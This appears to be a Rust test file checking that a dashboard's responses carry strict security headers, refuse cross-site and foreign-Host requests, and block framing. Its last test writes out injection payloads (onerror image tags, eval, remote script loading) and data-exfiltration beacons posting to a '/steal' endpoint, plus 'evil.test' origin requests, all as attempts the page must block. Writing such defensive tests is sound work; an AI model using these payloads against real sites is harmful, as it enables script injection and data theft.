//! What every answer tells browsers (B6), and what they make of it.

use hermes_sim::Answer;
use pretty_assertions::assert_eq;
use serde_json::json;

use super::board::{Board, TOKEN};
use super::browser::Browser;
use super::console::Console;
use super::server::{Reply, Server};
use crate::defences::raw;
use crate::harness::{Lab, request};

/// What the listener tells before it knows who would answer.
const POLICY_OF_REFUSALS: &str =
    "default-src 'none'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";

/// Headers that every answer has, whatever it is.
const ALWAYS: [(&str, &str); 6] = [
    (
        "content-security-policy",
        "default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'; img-src 'self' data:; \
         base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types hermes",
    ),
    ("x-frame-options", "DENY"),
    ("x-content-type-options", "nosniff"),
    ("referrer-policy", "no-referrer"),
    ("cross-origin-opener-policy", "same-origin"),
    ("cross-origin-resource-policy", "same-origin"),
];

pub(super) type Headers = Vec<(String, String)>;

/// The status that is expected, then method, path, headers and body of the request.
type Case<'a> = (u16, &'a str, &'a str, &'a [(&'a str, &'a str)], &'a str);

/// Fails if one of the headers is missing, comes twice or says something else, or if the answer may be kept.
pub(super) fn assert_headers(what: &str, path: &str, headers: &Headers) {
    let said = |name: &str| {
        let fields = headers.iter().filter(|(known, _)| known == name);
        fields.map(|(_, value)| value.as_str()).collect::<Vec<_>>()
    };
    for (name, value) in ALWAYS {
        let is_refusal = said("content-type") == ["text/plain; charset=utf-8"] || !is_ours(path);
        let value = if is_refusal && name == "content-security-policy" {
            POLICY_OF_REFUSALS
        } else {
            value
        };
        assert_eq!(said(name), [value], "{what}: {name} in {headers:#?}");
    }
    let kept = if path.starts_with("/assets/") && !said("etag").is_empty() {
        "no-cache"
    } else {
        "no-store"
    };
    assert_eq!(said("cache-control"), [kept], "{what}: {headers:#?}");
    for name in ["set-cookie", "access-control-allow-origin", "server"] {
        assert_eq!(said(name), [""; 0], "{what}: {headers:#?}");
    }
}

/// Whether the dashboard answers here; on the gateway's own paths only refusals are ours.
fn is_ours(path: &str) -> bool {
    !path.starts_with("/v1/") && !["/metrics", "/healthz"].contains(&path)
}

#[tokio::test]
async fn b6_refusals_of_the_gateway_tell_it_too() {
    let lab = Lab::with(hermes_sim::SimOptions::default(), "+0s").await;
    let board = Board::start(&lab).await;
    let routes = board.routes().await.into_iter();
    let routes: Vec<_> = routes
        .filter(|route| !is_ours(&route.path) && route.guarded)
        .collect();
    assert!(routes.len() > 5, "{routes:?}");
    for route in routes {
        let (status, answer, headers) = request(&board.up.base, &route.method, &route.path, &[], "{}").await;
        assert_eq!(status, 401, "{}: {answer}", route.path);
        assert_headers(&route.path, &route.path, &headers);
    }
}

#[tokio::test]
async fn b6_every_route_tells_browsers_what_is_allowed() {
    let lab = Lab::with(hermes_sim::SimOptions::default(), "+0s").await;
    let console = Console::start(&lab).await;
    let base = &console.board.up.base;
    let fragments = [
        "/",
        "/providers",
        "/pool/minimax-oauth",
        "/requests",
        "/requests/1",
        "/usage",
        "/keys",
        "/settings",
    ];
    let fragments = fragments.map(|path| ("GET".to_owned(), format!("/ui{path}")));
    let routes = console.board.routes().await.into_iter();
    let routes = routes.filter(|route| is_ours(&route.path));
    let mut all: Vec<_> = routes.map(|route| (route.method, route.path)).collect();
    all.extend(fragments);
    // What ends the session comes last.
    all.sort_by_key(|(method, path)| method == "DELETE" && path.starts_with("/api/session"));
    all.retain(|(_, path)| path != "/api/events");
    let token = [(TOKEN, console.token.as_str())];
    for (method, path) in &all {
        let asks = [
            (method.as_str(), &[][..], "{}"),
            (method.as_str(), &token[..], "{}"),
            (method.as_str(), &token[..], "nonsense"),
            ("PATCH", &token[..], "{}"),
            ("HEAD", &token[..], ""),
        ];
        // Where nothing but a sign of life is asked for, nothing else comes.
        let asks = asks
            .into_iter()
            .filter(|(method, ..)| (*method, path.as_str()) != ("HEAD", "/"));
        for (method, headers, body) in asks {
            let (status, _, answered) = request(base, method, path, headers, body).await;
            let what = format!("{method} {path} {headers:?} {body} is {status}");
            assert_headers(&what, path, &answered);
        }
    }
    assert!(all.len() > 40, "{all:?}");
}

#[tokio::test]
async fn b6_refusals_and_failures_tell_it_too() {
    let lab = Lab::new().await;
    let done = lab.sign_in(&["auth", "add", "minimax-oauth"]).await;
    assert_eq!(done.code, 0, "{done:?}");
    let mut slow = lab;
    slow.set("HERMES_LAB_CLOCK", "+0s");
    let lab = slow;
    let console = Console::start(&lab).await;
    let base = &console.board.up.base;
    let id = console.credentials().await[0]["id"]
        .as_str()
        .expect("an id")
        .to_owned();
    lab.sim.script().always(
        "account.minimax.io",
        "/oauth2/token",
        Answer::status(503).text("down"),
    );
    lab.sim
        .script()
        .always("api.minimax.io", "/oauth/token", Answer::status(503).text("down"));
    let token = (TOKEN, console.token.as_str());
    let long = format!("{{\"name\": \"{}\"}}", "a".repeat(1024 * 1024));
    let rename = format!("/api/credentials/{id}/rename");
    let refresh = format!("/api/credentials/{id}/refresh");
    let page = ("accept", "text/html");
    let cases: [Case<'_>; 11] = [
        (404, "GET", "/nothing", &[], ""),
        (404, "GET", "/nothing", &[page], ""),
        (404, "GET", "/assets/nothing.js", &[], ""),
        (404, "GET", "/api/nothing", &[token], ""),
        (404, "GET", "/api/credentials/1", &[token], ""),
        (405, "DELETE", "/settings", &[], ""),
        (401, "POST", "/api/session", &[], "{\"code\": \"wrong\"}"),
        (400, "POST", "/api/keys", &[token], "{\"name\": \"\"}"),
        (422, "POST", &rename, &[token], "[]"),
        (413, "POST", "/api/keys", &[token], &long),
        (502, "POST", &refresh, &[token], "{}"),
    ];
    for (expected, method, path, headers, body) in cases {
        let (status, answer, answered) = request(base, method, path, headers, body).await;
        assert_eq!(status, expected, "{method} {path}: {answer}");
        assert_headers(&format!("{method} {path} is {status}"), path, &answered);
    }
    let host = base.trim_start_matches("http://");
    for (expected, head) in [
        ("421", "GET / HTTP/1.1\r\nhost: evil.test\r\n".to_owned()),
        (
            "403",
            format!("GET / HTTP/1.1\r\nhost: {host}\r\norigin: http://evil.test\r\n"),
        ),
        (
            "403",
            format!("GET / HTTP/1.1\r\nhost: {host}\r\nsec-fetch-site: cross-site\r\n"),
        ),
        (
            "415",
            format!(
                "POST /api/keys HTTP/1.1\r\nhost: {host}\r\n{TOKEN}: {}\r\ncontent-type: text/plain\r\ncontent-length: 2\r\n",
                console.token
            ),
        ),
    ] {
        let bytes = format!("{head}connection: close\r\n\r\n{{}}");
        let answer = String::from_utf8(raw(&console.board.up, bytes.as_bytes()).await).expect("text");
        let (head, _) = answer.split_once("\r\n\r\n").expect("a head");
        assert!(head.starts_with(&format!("HTTP/1.1 {expected}")), "{head}");
        let fields = head.lines().filter_map(|line| line.split_once(": "));
        let fields = fields.map(|(name, value)| (name.to_ascii_lowercase(), value.to_owned()));
        assert_headers(&format!("{expected} before routing"), "/", &fields.collect());
    }
}

#[tokio::test]
async fn b6_no_page_is_shown_in_a_frame() {
    let lab = Lab::new().await;
    let board = Board::start(&lab).await;
    let address = board.up.base.clone();
    let neighbour = Server::start(move |_| Reply::html(&format!("<iframe src='{address}/'></iframe>"))).await;
    let browser = Browser::start().await;
    for host in ["127.0.0.1", "localhost"] {
        let page = browser.page().await;
        page.open(&format!("http://{host}:{}/", neighbour.port)).await;
        let framed = format!("{}/", board.up.base);
        let asked = page.exchanges().into_iter().filter(|one| one.url == framed);
        let answers: Vec<_> = asked.map(|one| one.status).collect();
        assert_eq!(answers, [403], "{host}");
        page.close().await;
    }
    // Not even our own page may hold another of ours.
    let page = browser.page().await;
    page.open(&board.link).await;
    page.evaluate("document.body.append(Object.assign(document.createElement('iframe'), {src: '/keys'}))")
        .await;
    super::moments(30).await;
    let forbidden = page.violations();
    assert!(
        forbidden.iter().any(|one| one.starts_with("frame-src")),
        "{forbidden:?}"
    );
    let asked = page
        .exchanges()
        .into_iter()
        .filter(|one| one.url.ends_with("/keys"));
    assert_eq!(asked.filter(|one| one.status == 200).count(), 0);
}

#[tokio::test]
async fn b6_nothing_but_our_own_files_runs_or_is_called() {
    let lab = Lab::new().await;
    let board = Board::start(&lab).await;
    let neighbour = Server::start(|_| Reply::new(200, "text/javascript", "window.hurt = true")).await;
    let browser = Browser::start().await;
    let page = browser.page().await;
    page.open(&board.link).await;
    page.wait_for("document.querySelector('main h1')").await;
    let base = neighbour.base();
    let tries = [
        "const it = document.createElement('script'); it.textContent = 'window.hurt = true'; document.body.append(it)".to_owned(),
        "document.body.setAttribute('onclick', 'window.hurt = true'); document.body.click()".to_owned(),
        "try { document.body.innerHTML = '<img src=x onerror=window.hurt=true>' } catch {}".to_owned(),
        "try { eval('window.hurt = true') } catch {}".to_owned(),
        format!("const it = document.createElement('script'); try {{ it.src = '{base}/a.js' }} catch {{}} document.body.append(it)"),
        format!("fetch('{base}/steal', {{method: 'POST', mode: 'no-cors', body: 'x'}}).catch(() => {{}})"),
        format!("new Image().src = '{base}/steal'"),
        format!("document.body.append(Object.assign(document.createElement('form'), {{action: '{base}/', method: 'post', id: 'f'}})); document.getElementById('f').submit()"),
        format!("document.head.append(Object.assign(document.createElement('base'), {{href: '{base}/'}}))"),
    ];
    // Scripts of the developer's console may do more than those of a page; what a timer runs is the page's.
    for script in &tries {
        page.evaluate(&format!("setTimeout(() => {{ try {{ {script} }} catch {{}} }})"))
            .await;
    }
    super::moments(30).await;
    assert_eq!(page.evaluate("window.hurt === undefined").await, json!(true));
    assert_eq!(neighbour.seen().len(), 0, "{:?}", neighbour.seen());
    assert!(page.violations().len() >= 5, "{:?}", page.violations());
}
